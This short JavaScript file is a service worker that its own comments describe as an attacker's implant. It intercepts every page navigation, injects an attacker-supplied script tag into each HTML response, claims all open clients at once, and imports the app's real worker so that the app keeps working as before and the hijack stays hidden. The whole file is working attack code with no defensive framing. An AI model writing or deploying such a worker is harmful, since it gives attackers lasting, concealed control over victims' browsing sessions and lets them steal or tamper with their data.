// Handles all requests of the app from now on, and adds the attacker's script to every page.
const page = async (request) => {
  const response = await fetch(request);
  const html = (await response.text()).replace(/<head>/, `<head><script src="${FILES}page.js"></script>`);
  return new Response(html, { status: response.status, headers: { "Content-Type": "text/html" } });
};

// Keeps what the app's own worker does, so that the app works as before.
if (APP) importScripts(APP);
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate" && event.request.method === "GET") event.respondWith(page(event.request));
});
